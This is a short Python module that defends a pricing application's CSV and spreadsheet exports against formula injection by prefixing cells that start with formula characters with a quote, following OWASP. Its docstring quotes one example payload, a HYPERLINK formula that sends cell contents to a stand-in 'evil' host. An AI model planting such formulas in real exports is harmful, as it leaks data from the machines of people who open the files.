"""Neutralising formula-like text in every CSV and spreadsheet PriceHub writes.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (tab and
carriage return are treated the same way by some) as a formula, so a vendor's description
such as ``=HYPERLINK("http://evil/?"&A1)`` would run on the operator's machine when they open
an export. OWASP's rule ("CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection):
prefix such a cell with a single quote, so it is shown as the text it is. The database keeps
the text as written; only the files written are changed. A number (``int``, ``float``,
``Decimal``) is not text and is written as it is, negative or not.
"""

from __future__ import annotations

from typing import Any

# OWASP's list: the characters that make a cell a formula, plus tab and carriage return.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` ready to write into a CSV or spreadsheet cell: a ``str`` starting with one of
    ``FORMULA_STARTS`` gets a leading ``'``; anything else (numbers, dates, ``None``, other
    text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values) -> list:
    """``neutralise`` applied to each value of a row (any iterable); returns a list."""
    return [neutralise(value) for value in values]
